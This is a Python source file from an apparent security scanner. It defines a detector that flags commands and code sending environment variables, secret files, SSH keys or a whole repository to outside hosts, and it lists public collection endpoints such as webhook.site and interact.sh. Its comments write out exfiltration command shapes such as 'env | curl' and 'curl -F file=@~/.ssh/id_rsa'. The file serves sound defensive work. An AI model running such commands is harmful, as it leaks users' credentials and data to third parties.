"""Secrets and whole environments that leave the machine."""

from __future__ import annotations

import re

from pisces.diagnostics import ERROR, NOTE, WARNING, Diagnostics, Rule
from pisces.scanning.contexts import READ, line_at
from pisces.scanning.detector import Detector
from pisces.scanning.page import Page, excerpt
from pisces.scanning.quiet import is_warned_of
from pisces.scanning.roles import CONFIG, PROMPT
from pisces.scanning.words import words

SECRETS_SENT = Rule("scan-secrets-sent", ERROR, "The environment, a secret or a file of secrets is sent away")
DROP_HOST = Rule("scan-drop-host", WARNING, "An address where anybody can collect what others send")

_SECRET = r"\$\{?\w{0,40}(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|CREDENTIAL|ACCESS_KEY)\w{0,20}"
_SENDERS = r"\b(?:curl|wget|invoke-webrequest|invoke-restmethod|irm|iwr)\b"
_PATTERNS = (
    # env | curl, printenv | nc, cat .env | curl
    re.compile(
        r"\b(?:env|printenv|set|export\s-p|cat\s[^\n"
        r"|;]{0,60}\.env(?:\.\w{1,12})?)\s{0,9}(?:\|[^\n|;]{0,80}){0,2}\|\s{0,9}(?:curl|wget|nc|ncat|socat)\b"
    ),
    # curl -d "$(env)", curl --data @.env, curl -F file=@~/.ssh/id_rsa
    re.compile(
        rf"{_SENDERS}[^\n|;]{{0,300}}(?:\$\((?:env|printenv)\b"
        rf"|@[^\s'\"]{{0,80}}(?:\.env\b|\.ssh/|\.aws/|\.netrc))",
        re.I,
    ),
    # curl https://host/?k=$TOKEN
    re.compile(rf"{_SENDERS}[^\n|;]{{0,300}}https?://[^\s'\"|]{{1,200}}[?&]\w{{1,30}}={_SECRET}", re.I),
    # curl http://host -H "... $TOKEN"
    re.compile(
        rf"{_SENDERS}[^\n|;]{{0,200}}http://(?!localhost|127\."
        rf"|\[::1|0\.0\.0\.0|\$|host\.docker)[^\n|;]{{0,200}}{_SECRET}",
        re.I,
    ),
    # git remote add x https://...; git add -A && git push x
    re.compile(
        r"\bgit\s{1,4}remote\s{1,4}(?:add|set-url)\s[^\n;&|]{0,60}(?:https?://[^\s/@]{1,80}:[^\s/@]{1,80}@|ssh://|git@)?[^\n]{0,160}"
        r"(?:\n[^\n]{0,200}){0,4}?\bgit\s{1,4}add\s{1,4}(?:-\w{0,3}A|--all|\.)[^\n]{0,120}(?:\n[^\n]{0,200}){0,4}?\bgit\s{1,4}push\b"
    ),
    # echo '${{ toJSON(secrets) }}' | base64 | curl -d @-
    re.compile(
        r"\btoJSON\(\s{0,4}secrets\s{0,4}\)[^\n]{0,160}\b(?:curl|wget|nc|dig)\b|\b(?:curl|wget|nc)\b[^\n]{0,200}\btoJSON\(\s{0,4}secrets\s{0,4}\)"
    ),
    # git remote add mirror https://user:x@host/..., then git push --mirror mirror
    re.compile(
        r"\bgit\s{1,4}remote\s{1,4}add\s{1,4}(?!origin|upstream|heroku|fork)(?P<name>[\w-]{1,30})\s{1,4}[\"']?(?:https?://[^\s\"'`]{4,160}|\w{1,20}@[^\s\"'`]{4,120})"
        r"(?:[^\n]{0,200}\n){0,6}?[^\n]{0,120}\bgit\s{1,4}push\b(?=[^\n]{0,80}(?:--mirror|--all|--quiet|-q\b|/dev/null))[^\n`]{0,60}\b(?P=name)\b"
    ),
    # git push https://user:password@host HEAD
    re.compile(
        r"\bgit\s{1,4}push\b(?:\s{1,4}-\S{1,20}){0,4}\s{1,4}[\"']?https?://[^\s/@\"']{1,60}:[^\s/@\"']{1,80}@(?!github\.com|gitlab\.com)[\w.-]{3,80}"
    ),
    # tar cz . | curl -T - https://host
    re.compile(
        r"\b(?:tar|zip)\s{1,4}-?\w{1,8}\s[^\n|;`]{0,60}\|\s{0,4}(?:[^\n|;`]{1,40}\|\s{0,4})?curl\b(?=[^\n;`]{0,160}(?:\s-T|--upload-file|\s-\w{0,4}d\b|--data))[^\n;`]{0,160}https?://(?!localhost|127\.)"
    ),
    # JSON.stringify(process.env), requests.post(url, json=dict(os.environ))
    re.compile(
        r"(?:\bfetch|axios\.post|requests\.post"
        r"|httpx\.post)\([^\n]{0,200}(?:JSON\.stringify\(process\.env\b(?![.\[])|os\.environ\b(?![.\[]))"
    ),
)
_SURE = (_PATTERNS[5], _PATTERNS[6])  # in a prompt or a workflow, too
_DROPS = re.compile(
    r"\b(?:webhook\.site|requestbin\.(?:com|net)"
    r"|[\w-]{1,40}\.m\.pipedream\.net|[\w-]{1,60}\.(?:oast\.(?:fun|pro|live|site|me)"
    r"|interact\.sh|burpcollaborator\.net|ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|loca\.lt|serveo\.net)"
    r"|discord(?:app)?\.com/api/webhooks/\d|api\.telegram\.org/bot\d|pastebin\.com/(?:raw|api))",
    re.I,
)


_NUMBER = re.compile(
    r"(?:https?|ftp|wss?)://(?!0\.|10\.|127\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|1\.1\.1\.1|8\.8\.[48]\.[48]|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.)"
    r"(?:\d{1,3}\.){3}\d{1,3}\b[^\s\"'`)]{0,40}"
)
_DIGIT = re.compile(r"://\d")
_ADDRESSES = words("http://", "https://", "ftp://", "ws://", "wss://")


def _find(page: Page) -> Diagnostics:
    for found in page.matches(_PATTERNS, _SENDING):
        finding = page.weighed(SECRETS_SENT, found.start(), f"`{excerpt(found[0])}` sends secrets")
        is_sure = found.re in _SURE and page.role in (PROMPT, CONFIG) and finding.severity != ERROR
        is_warned = is_sure and is_warned_of(*line_at(page.text, found.start()))
        yield finding.replace(severity=ERROR) if is_sure and not is_warned else finding
    if (page.role == PROMPT or page.started) and _DIGIT.search(page.text):
        for found in page.matches((_NUMBER,), _ADDRESSES, before=0, after=60):
            message = f"`{excerpt(found[0])}` is a machine without a name"
            finding = page.finding(DROP_HOST, found.start(), message)
            yield finding if page.context(found.start()) != READ else finding.replace(severity=NOTE)
    for found in page.matches((_DROPS,), _DROPPING):
        yield page.weighed(DROP_HOST, found.start(), f"`{excerpt(found[0])}` is an address for anybody's use")


_SENDING = words(
    "git push",
    "curl",
    "wget",
    "invoke-webrequest",
    "invoke-restmethod",
    "irm",
    "iwr",
    "nc",
    "socat",
    "fetch(",
    ".post(",
    "git remote",
)
_DROPPING = words(
    *("webhook.site", "requestbin", "pipedream.net", "oast.", "interact.sh", "burpcollaborator", "ngrok"),
    *("trycloudflare", "loca.lt", "serveo.net", "/api/webhooks/", "api.telegram", "pastebin.com"),
)


DETECTOR = Detector("secrets that leave the machine", _find, in_plain_text=True)
